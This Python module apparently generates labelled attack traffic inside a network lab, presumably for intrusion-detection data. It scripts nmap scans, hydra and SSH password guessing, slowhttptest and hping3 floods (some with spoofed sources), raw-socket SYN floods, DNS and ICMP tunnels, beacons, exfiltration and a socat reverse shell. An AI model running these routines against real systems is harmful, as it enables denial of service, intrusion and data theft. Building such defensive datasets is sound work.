"""Activities of attackers, by the tools that attackers use, every one bounded in count and time.

They run from the same hosts as everyday use does, against the same services, so that no address, path length or
operating system's habit tells the two apart.
"""

import os
import socket
import struct
import subprocess
import time

from .activity import activity
from .services import listen, need

ANYONE = "host {server}"  # spoofed senders: the capture must not ask for the client's address


# --- Looking around -------------------------------------------------------------------------------------------


def nmap(scene, *words, ports=True):
    """nmap without look-ups of names or a ping first; some ports are made to answer nothing, as behind a firewall."""
    for name in ("web", "ssh"):
        scene.need(name)
    dead = scene.rng.sample(range(1, 1024), scene.rng.randrange(0, 400))
    scene.lab.conditions(
        filtered=[[scene.address(), p, n] for n in dead if n not in (22, 80, 443) for p in (6, 17)]
    )
    scene.start()
    words = ["nmap", "-n", "-Pn", "--max-retries", "1", "--host-timeout", f"{int(scene.seconds)}s", *words]
    if scene.version == 6:
        words.append("-6")
    if ports:
        low = scene.pick(1, 700)
        words += ["-p", f"22,80,443,{low}-{low + scene.pick(60, 280)}"]
    scene.run(*words, scene.address())
    scene.lab.conditions(filtered=[])


def speed(scene):
    return scene.rng.choice([["-T4"], ["-T3"], ["--max-rate", str(scene.pick(15, 200))]])


@activity("malicious", "scan", "nmap SYN scan: open, closed and filtered ports")
def scan_syn(scene):
    nmap(scene, "-sS", *speed(scene))


@activity("malicious", "scan", "nmap connect scan: whole handshakes, no raw sockets")
def scan_connect(scene):
    nmap(scene, "-sT", *speed(scene))


@activity("malicious", "scan", "nmap version scan: asks open ports what they serve")
def scan_version(scene):
    scene.need("names")
    nmap(scene, "-sV", "--version-light", "-p", "21-25,53,80,443", ports=False)


@activity("malicious", "scan", "nmap scan by segments that open nothing: FIN, none or Xmas flags")
def scan_odd_flags(scene):
    nmap(scene, scene.rng.choice(["-sF", "-sN", "-sX"]), *speed(scene))


@activity("malicious", "scan", "nmap ACK scan, which maps firewalls")
def scan_ack(scene):
    nmap(scene, "-sA", *speed(scene))


@activity("malicious", "scan", "nmap UDP scan; unreachable messages come back, slowly")
def scan_udp(scene):
    nmap(scene, "-sU", "--max-rate", str(scene.pick(20, 120)))


@activity(
    "malicious",
    "scan",
    "nmap ping sweep over a range, in which few hosts live",
    versions=(4,),
    expression="host {client}",
    at_client=True,
)
def sweep_ping(scene):
    scene.start()
    network = scene.address().rsplit(".", 1)[0]
    first = scene.rng.randrange(0, 128)
    scene.run(
        "nmap",
        "-n",
        "-sn",
        "-PE",
        "--max-retries",
        "0",
        "--max-rate",
        str(scene.pick(20, 150)),
        scene.address(),
        f"{network}.{first}-{first + scene.pick(40, 120)}",
    )


@activity(
    "malicious",
    "scan",
    "One port, tried on every address of a range, as worms do",
    versions=(4,),
    expression="host {client}",
    at_client=True,
)
def sweep_port(scene):
    scene.need("ssh")
    scene.start()
    network = scene.address().rsplit(".", 1)[0]
    scene.run(
        "nmap",
        "-n",
        "-Pn",
        "-sS",
        "-p",
        scene.rng.choice(["22", "23", "445", "3389"]),
        "--max-retries",
        "0",
        "--max-rate",
        str(scene.pick(20, 150)),
        "--host-timeout",
        "2s",
        scene.address(),
        f"{network}.1-120",
    )


@activity(
    "malicious",
    "scan",
    "Many hosts tried by ordinary sockets, as bots do: the system repeats what nobody answers",
    expression="host {client}",
    at_client=True,
)
def sweep_sockets(scene):
    for name in ("web", "ssh"):
        scene.need(name)
    scene.start()
    common = [23, 23, 23, 2323, 80, 8080, 22, 5555, 37215, 7547, 445, 3389]
    ports = scene.rng.choice([common[:3], [scene.rng.choice(common)], common, common])
    odd = scene.rng.choice([0.0, 0.0, 0.1, 0.5])
    gap = 1 / scene.pick(4, 60)

    def knock():
        tried = []
        while not scene.over and len(tried) < 700:
            s = socket.socket(socket.AF_INET6 if scene.version == 6 else socket.AF_INET)
            s.setblocking(False)
            port = scene.rng.randrange(1, 65536) if scene.rng.random() < odd else scene.rng.choice(ports)
            # Most addresses have no host, as in any network.
            address = (
                scene.address()
                if scene.rng.random() < 0.02
                else scene.lab.empty_address(scene.rng, scene.version)
            )
            s.connect_ex((address, port))
            tried.append(s)
            scene.wait(gap * scene.rng.expovariate(1.0))
        scene.wait(scene.left)
        for s in tried:
            s.close()

    scene.on_client(knock)


@activity(
    "malicious",
    "scan",
    "Datagrams to hosts of a long list, one each, as bots look for others of their kind",
    expression="host {client}",
    at_client=True,
)
def seek_peers(scene):
    scene.start()
    gap, size, fixed = 1 / scene.pick(4, 60), scene.pick(20, 300), scene.rng.choice([None, None, 6881, 16464])

    def seek():
        with socket.socket(socket.AF_INET6 if scene.version == 6 else socket.AF_INET, socket.SOCK_DGRAM) as s:
            for _ in range(700):
                port = fixed or scene.rng.randrange(1024, 65536)
                s.sendto(os.urandom(size), (scene.lab.empty_address(scene.rng, scene.version), port))
                if not scene.wait(gap * scene.rng.expovariate(1.0)):
                    return

    scene.on_client(seek)


# --- Guessing -------------------------------------------------------------------------------------------------


def hydra(scene, protocol, *rest):
    """hydra with a list of wrong passwords."""
    (scene.client.directory / "words").write_text("\n".join(f"guess{i}" for i in range(400)) + "\n")
    # -w: without it, hydra waits half a minute after a server has hung up on it.
    words = [
        "hydra",
        "-I",
        "-q",
        "-w",
        "2",
        "-l",
        scene.rng.choice(["root", "admin", "member"]),
        "-P",
        "words",
        "-t",
        scene.rng.choice([1, 2, 4, 4, 8]),
        f"-{scene.version}",
    ]
    scene.run(
        *words, f"{protocol}://{scene.server.literal(scene.version)}{''.join(rest)}", seconds=scene.left
    )


@activity("malicious", "brute-force", "hydra guesses SSH passwords")
def brute_ssh(scene):
    scene.need("ssh")
    scene.start()
    hydra(scene, "ssh")


@activity("malicious", "brute-force", "Passwords guessed with OpenSSH's own client, one connection a guess")
def brute_ssh_client(scene):
    port = scene.need("ssh")
    scene.start()
    pause = scene.rng.choice([0.0, 0.2, 1.0])
    while not scene.over:
        scene.run(
            "sshpass",
            "-p",
            f"guess{scene.rng.randrange(1000)}",
            "ssh",
            "-F",
            "/dev/null",
            "-p",
            port,
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
            "-o",
            "PreferredAuthentications=password",
            "-o",
            "NumberOfPasswordPrompts=1",
            f"root@{scene.address()}",
        )
        scene.wait(pause)


@activity("malicious", "brute-force", "hydra guesses FTP passwords")
def brute_ftp(scene):
    scene.need("ftp")
    scene.start()
    hydra(scene, "ftp")


@activity("malicious", "brute-force", "hydra guesses the password of a web page")
def brute_http(scene):
    scene.need("web")
    scene.start()
    hydra(scene, "http-get", "/private/")


@activity("malicious", "web-attack", "Names of hidden pages guessed, hundreds of requests that find nothing")
def guess_pages(scene):
    scene.need("web")
    scene.start()
    many = scene.rng.choice([1, 20, 50])
    while not scene.over:
        names = ",".join(f"{scene.rng.getrandbits(30):x}" for _ in range(many))
        scene.run("curl", "-s", "-k", "-o", "/dev/null", "-A", "Mozilla/5.0", scene.url(f"{{{names}}}.php"))
        scene.wait(scene.rng.uniform(0.0, 0.1))


# --- Wearing out ----------------------------------------------------------------------------------------------


def slow(scene, *words):
    scene.need("web")
    scene.start()
    scene.run(
        "slowhttptest",
        *words,
        "-c",
        scene.pick(12, 80),
        "-r",
        scene.pick(8, 40),
        "-l",
        int(scene.seconds),
        "-u",
        scene.url("large.bin" if "-X" in words else "index.html"),
        "-p",
        "5",
        seconds=scene.left,
    )


@activity("malicious", "slow-http", "slowhttptest: headers that never end")
def slow_headers(scene):
    slow(scene, "-H", "-i", scene.rng.choice([1, 2, 4]), "-x", scene.rng.choice([8, 24]))


@activity("malicious", "slow-http", "slowhttptest: bodies that never end")
def slow_body(scene):
    slow(scene, "-B", "-i", scene.rng.choice([1, 2, 4]), "-s", "8192", "-x", scene.rng.choice([8, 24]))


@activity("malicious", "slow-http", "slowhttptest: answers read a few bytes at a time")
def slow_read(scene):
    slow(scene, "-X", "-w", "10", "-y", "40", "-n", "1", "-z", "16", "-k", "2")


def hping(scene, *words, most=None):
    count = most or scene.pick(150, 900)
    gap = scene.pick(1_000, 20_000)
    count = max(50, min(count, int(scene.seconds * 1e6 / gap)))
    scene.run("hping3", "-q", "-n", "-c", count, "-i", f"u{gap}", *words, scene.address(), seconds=scene.left)


@activity("malicious", "flood", "hping3 SYN flood from one host, a new source port each", versions=(4,))
def flood_syn(scene):
    scene.need("web")
    scene.start()
    hping(scene, "-S", "-p", scene.rng.choice([80, 443]), "-w", scene.pick(512, 65000))


@activity("malicious", "flood", "hping3 SYN flood from spoofed addresses", versions=(4,), expression=ANYONE)
def flood_syn_spoofed(scene):
    scene.need("web")
    scene.start()
    hping(scene, "-S", "-p", "80", "--rand-source")


def checksum_at(connection, offset):
    """Lets the kernel fill in a transport checksum of a raw IPv6 socket (RFC 3542)."""
    connection.setsockopt(socket.IPPROTO_IPV6, 7, offset)


@activity("malicious", "flood", "SYN flood over IPv6 by a raw socket", versions=(6,))
def flood_syn_six(scene):
    scene.need("web")
    scene.start()
    gap, count = scene.pick(2, 20) / 1e3, scene.pick(150, 600)

    def send():
        with socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP) as s:
            checksum_at(s, 16)
            for _ in range(count):
                syn = struct.pack(
                    "!HHIIBBHHH",
                    scene.rng.randrange(1024, 65535),
                    80,
                    scene.rng.getrandbits(32),
                    0,
                    5 << 4,
                    2,
                    scene.rng.randrange(512, 65535),
                    0,
                    0,
                )
                s.sendto(syn, (scene.address(), 0))
                if not scene.wait(gap):
                    return

    scene.on_client(send)


@activity("malicious", "flood", "hping3 flood of segments that belong to no connection", versions=(4,))
def flood_ack(scene):
    scene.need("web")
    scene.start()
    hping(scene, *scene.rng.choice([["-A"], ["-A", "-P"], ["-R"], ["-F", "-A"]]), "-p", "80")


@activity("malicious", "flood", "hping3 flood of datagrams, one port or many", versions=(4,))
def flood_udp(scene):
    scene.need("quiet")
    scene.start()
    port = scene.rng.choice([["-p", "9000"], ["-p", "++1000"], ["-p", "53"]])
    source = scene.rng.choice([[], ["-k", "-s", "4000"]])
    hping(scene, "--udp", *port, *source, "-d", scene.pick(1, 1200))


@activity("malicious", "flood", "Flood of datagrams over IPv6 from one socket", versions=(6,))
def flood_udp_six(scene):
    port = scene.need("quiet")
    scene.start()
    gap, count, size = scene.pick(2, 20) / 1e3, scene.pick(200, 900), scene.pick(20, 1200)

    def send():
        with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
            for _ in range(count):
                s.sendto(os.urandom(size), (scene.address(), port))
                if not scene.wait(gap):
                    return

    scene.on_client(send)


@activity("malicious", "flood", "hping3 flood of echo requests", versions=(4,))
def flood_icmp(scene):
    scene.start()
    hping(scene, "--icmp", "-d", scene.pick(1, 1200))


@activity("malicious", "flood", "ping as fast as it is let, large packets", versions=(4, 6))
def flood_ping(scene):
    scene.start()
    scene.run(
        "ping",
        "-q",
        "-n",
        "-i",
        "0.01",
        "-c",
        scene.pick(200, 900),
        "-s",
        scene.pick(56, 1300),
        scene.address(),
        seconds=scene.left,
    )


@activity("malicious", "flood", "Flood of page requests, a connection each, several at once")
def flood_http(scene):
    scene.need("web")
    scene.start()
    path, count = scene.rng.choice(["", "small.bin", "tiny.bin"]), scene.pick(150, 500)

    def worker():
        request = f"GET /{path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode()
        for _ in range(count // 4):
            try:
                with socket.create_connection((scene.address(), 80), 3) as s:
                    s.settimeout(3)
                    s.sendall(request)
                    while s.recv(65536):
                        pass
            except OSError:
                pass
            if not scene.wait(scene.rng.uniform(0.0, 0.04)):
                return

    for thread in [scene.client.inside(worker) for _ in range(4)]:
        thread.join(scene.left + 4)


@activity("malicious", "flood", "Page requests as fast as curl sends them on kept-alive connections")
def flood_http_kept(scene):
    scene.need("web")
    scene.start()
    words = ["curl", "-s", "-k", "--parallel", "--parallel-max", scene.rng.choice([4, 10])]
    for _ in range(scene.pick(150, 400)):
        words += ["-o", "/dev/null", scene.url(f"index.html?{scene.rng.getrandbits(20)}")]
    scene.run(*words, seconds=scene.left)


@activity(
    "malicious",
    "amplification",
    "Large answers that nobody asked for, in many pieces, at the victim",
    expression="host {server} and host {client} and (udp or ip[6:2] & 0x1fff != 0 or ip6[6] == 44)",
)
def amplified_answers(scene):
    """The client's host plays a resolver whose questions were forged elsewhere; the server is the victim."""
    victim = scene.address()
    scene.start()
    source, count, size = (
        scene.rng.choice([53, 123, 1900, 11211]),
        scene.pick(100, 400),
        scene.pick(400, 4000),
    )
    port = scene.rng.randrange(1024, 65535)

    def answer():
        with listen(socket.SOCK_DGRAM, source) as s:
            to = victim if scene.version == 6 else f"::ffff:{victim}"
            for _ in range(count):
                s.sendto(os.urandom(size), (to, port))
                if not scene.wait(scene.rng.expovariate(1 / 0.012)):
                    return

    scene.on_client(answer)


# --- After the break-in ---------------------------------------------------------------------------------------


def text(scene, length):
    return "".join(scene.rng.choices("abcdefghijklmnopqrstuvwxyz234567", k=length))


@activity("malicious", "tunnel", "Data carried in long names of DNS questions, a socket each (dig)")
def tunnel_dns(scene):
    scene.need("names")
    scene.start()
    kind = scene.rng.choice(["TXT", "A", "MX", "NULL", "CNAME"])
    while not scene.over:
        name = ".".join(text(scene, scene.rng.randrange(30, 62)) for _ in range(scene.rng.randrange(1, 4)))
        scene.run("dig", "+tries=1", "+time=2", f"@{scene.address()}", f"{name}.t.example", kind)
        scene.wait(scene.rng.uniform(0.0, 0.15))


@activity("malicious", "tunnel", "The same over one socket, as iodine and dnscat do")
def tunnel_dns_socket(scene):
    scene.need("names")
    scene.start()

    def send():
        family = socket.AF_INET6 if scene.version == 6 else socket.AF_INET
        with socket.socket(family, socket.SOCK_DGRAM) as s:
            s.settimeout(0.5)
            s.connect((scene.address(), 53))
            kind = scene.rng.choice([1, 5, 15, 16])
            while not scene.over:
                busy = scene.rng.random() < 0.7
                labels = [text(scene, 60) for _ in range(3)] if busy else [text(scene, 12)]
                name = b"".join(bytes([len(p)]) + p.encode() for p in (*labels, "t", "example")) + b"\0"
                s.send(os.urandom(2) + b"\1\0\0\1\0\0\0\0\0\0" + name + struct.pack("!HH", kind, 1))
                try:
                    s.recv(4096)
                except OSError:
                    pass
                scene.wait(0.01 if busy else 0.5)

    scene.on_client(send)


@activity("malicious", "tunnel", "Data carried in echo requests and their replies")
def tunnel_icmp(scene):
    scene.start()

    def send():
        six = scene.version == 6
        with socket.socket(
            socket.AF_INET6 if six else socket.AF_INET,
            socket.SOCK_DGRAM,
            socket.IPPROTO_ICMPV6 if six else socket.IPPROTO_ICMP,
        ) as s:
            s.settimeout(0.3)
            number = 0
            while not scene.over:
                size = scene.rng.choice([1024, 1024, 700, 64, 80])
                s.sendto(
                    struct.pack("!BBHHH", 128 if six else 8, 0, 0, 0, number & 0xFFFF) + os.urandom(size),
                    (scene.address(), 0),
                )
                number += 1
                try:
                    s.recv(4096)
                except OSError:
                    pass
                scene.wait(scene.rng.choice([0.01, 0.05, 0.3]))

    scene.on_client(send)


@activity(
    "malicious", "beacon", "A bot that asks for orders at regular times, a connection each (HTTP or HTTPS)"
)
def beacon_web(scene):
    scene.need("web")
    scene.start()
    period, scheme = scene.rng.uniform(0.5, 4.0), scene.rng.choice(["http", "https"])
    while scene.wait(period * scene.rng.uniform(0.9, 1.1)):
        upload = scene.rng.choice([[], [], ["-d", "x" * scene.pick(20, 800)]])
        scene.run("curl", "-s", "-k", "-o", "/dev/null", *upload, scene.url("tiny.bin", scheme))


@activity("malicious", "beacon", "A bot that stays connected and asks for orders at regular times")
def beacon_kept(scene):
    port = need(scene.server, "control")
    scene.start()
    period = scene.rng.uniform(0.3, 2.5)

    def ask():
        try:
            with socket.create_connection((scene.address(), port), 5) as s:
                s.settimeout(5)
                while not scene.over:
                    s.sendall(b"q" * scene.rng.choice([24, 24, 24, 300]) + b"\n")
                    s.recv(65536)
                    scene.wait(period * scene.rng.uniform(0.9, 1.1))
        except OSError:
            pass

    scene.on_client(ask)


@activity("malicious", "exfiltration", "Much data leaves for a host that says nothing back")
def exfiltrate(scene):
    port = scene.need("sink")
    scene.start()
    parts, size = scene.pick(1, 30), scene.pick(10_000, 300_000)

    def send():
        for _ in range(parts):
            try:
                with socket.create_connection((scene.address(), port), 5) as s:
                    s.settimeout(5)
                    for _ in range(0, size, 8192):
                        s.sendall(os.urandom(8192))
                        if not scene.wait(scene.rng.uniform(0.0, 0.02)):
                            return
            except OSError:
                return
            if not scene.wait(scene.rng.uniform(0.0, 0.8)):
                return

    scene.on_client(send)


@activity("malicious", "remote-control", "A shell that calls home: commands come in, their output goes out")
def reverse_shell(scene):
    """The client is the victim and connects; socat on it runs a shell for whoever listens on the server."""
    port = 4444
    handler = scene.server.spawn(
        ["socat", "-", f"TCP6-LISTEN:{port},reuseaddr,ipv6only=0"], stdin=subprocess.PIPE
    )
    time.sleep(0.3)
    scene.start()
    target = scene.server.literal(scene.version)
    scene.client.spawn(["socat", f"TCP{scene.version}:{target}:{port}", "EXEC:sh,stderr"])
    commands = [
        "id",
        "uname -a",
        "ls -l /usr/bin | head -200",
        "cat /etc/services",
        "ps aux",
        "ls /home",
        "ip address",
    ]
    while scene.pause(1.0):
        try:
            handler.stdin.write((scene.rng.choice(commands) + "\n").encode())
            handler.stdin.flush()
        except BrokenPipeError:
            return
    handler.terminate()
